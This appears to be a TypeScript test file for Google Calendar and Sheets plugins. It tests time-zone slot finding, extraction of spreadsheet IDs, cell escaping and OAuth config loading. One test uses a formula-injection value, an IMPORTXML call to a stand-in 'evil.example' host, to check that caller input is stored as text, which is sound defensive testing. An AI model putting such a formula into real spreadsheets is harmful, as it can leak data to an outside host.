// The Google plugins' pure parts: wall-clock times in a zone (across a DST change), free slots within hours and
// buffers, a spreadsheet id from a URL, a caller's value kept from becoming a formula; and the OAuth client settings.
import { describe, expect, it } from "bun:test";
import { freeSlots, hoursOf, localIso, parseSlot, spoken, zonedInstant } from "../../../plugins/google-calendar/slots.ts";
import { asCell, spreadsheetIdOf } from "../../../plugins/google-sheets/index.ts";
import { ConfigError, loadConfig } from "../../../src/config.ts";

describe("calendar slots", () => {
  it("reads wall-clock times in the calendar's zone, on both sides of a DST change", () => {
    expect(new Date(zonedInstant(2026, 3, 6, 9 * 60, "America/Chicago")).toISOString()).toBe("2026-03-06T15:00:00.000Z");
    expect(new Date(zonedInstant(2026, 3, 9, 9 * 60, "America/Chicago")).toISOString()).toBe("2026-03-09T14:00:00.000Z");
    expect(parseSlot("2026-12-15T10:00", "Europe/Berlin")).toBe(Date.parse("2026-12-15T09:00:00Z"));
    expect(parseSlot("2026-12-15T10:00:00Z", "Europe/Berlin")).toBe(Date.parse("2026-12-15T10:00:00Z"));
    expect(parseSlot("next Tuesday", "UTC")).toBeNull();
  });

  it("offers slots inside opening hours on open days, clear of busy times widened by the buffer", () => {
    const hours = hoursOf({ timeZone: "UTC", openingHours: "09:00-12:00", openDays: "mon,tue", slotMinutes: 60, bufferMinutes: 15 });
    const friday = Date.parse("2026-12-11T00:00:00Z");
    const busy = [{ start: Date.parse("2026-12-14T10:50:00Z"), end: Date.parse("2026-12-14T11:00:00Z") }];
    const slots = freeSlots(friday, hours, busy, 3, 14);
    // Monday 09:00 ends 10:00, clear of 10:50 minus 15 minutes; 10:00 runs into it; 11:00 starts within its buffer.
    expect(slots.map((s) => localIso(s, "UTC"))).toEqual(["2026-12-14T09:00", "2026-12-15T09:00", "2026-12-15T10:00"]);
    expect(spoken(slots[0]!, "UTC")).toMatch(/^Monday, December 14 at 9:00\sAM$/);
  });

  it("takes the agent's business hours and time zone when the operator set no opening hours of the action's own", () => {
    const agent = { timeZone: "Europe/Berlin", weekly: { tuesday: [{ start: "08:00", end: "10:00" }, { start: "14:00", end: "15:00" }], saturday: [{ start: "22:00", end: "02:00" }] } };
    const hours = hoursOf({ slotMinutes: 60 }, agent);
    expect(hours.timeZone).toBe("Europe/Berlin");
    const slots = freeSlots(Date.parse("2026-12-14T00:00:00Z"), hours, [], 6, 7);
    // Tuesday's two ranges in Berlin time; Saturday's overnight range is bookable to midnight only.
    expect(slots.map((s) => localIso(s, "Europe/Berlin"))).toEqual(["2026-12-15T08:00", "2026-12-15T09:00", "2026-12-15T14:00", "2026-12-19T22:00", "2026-12-19T23:00"]);
    // The action's own settings win where given; the zone still falls back to the agent's.
    const own = hoursOf({ openingHours: "09:00-10:00", openDays: "wed" }, agent);
    expect(freeSlots(Date.parse("2026-12-14T00:00:00Z"), own, [], 2, 7).map((s) => localIso(s, "Europe/Berlin"))).toEqual(["2026-12-16T09:00"]);
    // An agent with no schedule leaves the defaults: 09:00-17:00, Monday to Friday.
    expect(freeSlots(Date.parse("2026-12-12T00:00:00Z"), hoursOf({}, { timeZone: null, weekly: {} }), [], 1, 7).map((s) => localIso(s, "UTC"))).toEqual(["2026-12-14T09:00"]);
  });

  it("refuses opening hours it cannot read", () => {
    expect(() => hoursOf({ openingHours: "nine to five" })).toThrow("openingHours");
    expect(() => hoursOf({ timeZone: "Mars/Olympus" })).toThrow("time zone");
  });
});

describe("sheets values", () => {
  it("takes a spreadsheet id from a Sheets URL or as given", () => {
    expect(spreadsheetIdOf("https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOp_-q/edit#gid=0")).toBe("1AbCdEfGhIjKlMnOp_-q");
    expect(spreadsheetIdOf("1AbCdEfGhIjKlMnOp_-q")).toBe("1AbCdEfGhIjKlMnOp_-q");
    expect(spreadsheetIdOf("https://example.com/not/a/sheet")).toBeNull();
  });

  it("keeps what a caller said as text, never a formula", () => {
    expect(asCell('=IMPORTXML("https://evil.example")')).toBe(`'=IMPORTXML("https://evil.example")`);
    expect(asCell("+14155550100")).toBe("'+14155550100");
    expect(asCell("Dana Reyes")).toBe("Dana Reyes");
  });
});

describe("GOOGLE_OAUTH_* settings", () => {
  it("configures the Google OAuth client from its id and secret, with an optional base URL", () => {
    const config = loadConfig({ GOOGLE_OAUTH_CLIENT_ID: "id.apps.googleusercontent.com", GOOGLE_OAUTH_CLIENT_SECRET: "GOCSPX-x", GOOGLE_OAUTH_BASE_URL: "http://127.0.0.1:9999/" });
    expect(config.integrations.oauthClients.GOOGLE_OAUTH).toEqual({ clientId: "id.apps.googleusercontent.com", clientSecret: "GOCSPX-x", baseUrl: "http://127.0.0.1:9999" });
    expect(loadConfig({}).integrations.oauthClients).toEqual({});
    expect(() => loadConfig({ GOOGLE_OAUTH_CLIENT_ID: "id.apps.googleusercontent.com" })).toThrow(ConfigError);
  });

  it("reads an operator plugin's own client the same way, by the prefix its auth.client names", () => {
    const config = loadConfig({ ACME_CRM_OAUTH_CLIENT_ID: "acme-id", ACME_CRM_OAUTH_CLIENT_SECRET: "acme-secret", ACME_CRM_OAUTH_BASE_URL: "https://login.acme.example/" });
    expect(config.integrations.oauthClients.ACME_CRM_OAUTH).toEqual({ clientId: "acme-id", clientSecret: "acme-secret", baseUrl: "https://login.acme.example" });
    expect(() => loadConfig({ ACME_CRM_OAUTH_CLIENT_ID: "acme-id" })).toThrow("ACME_CRM_OAUTH_CLIENT_SECRET is required");
  });
});
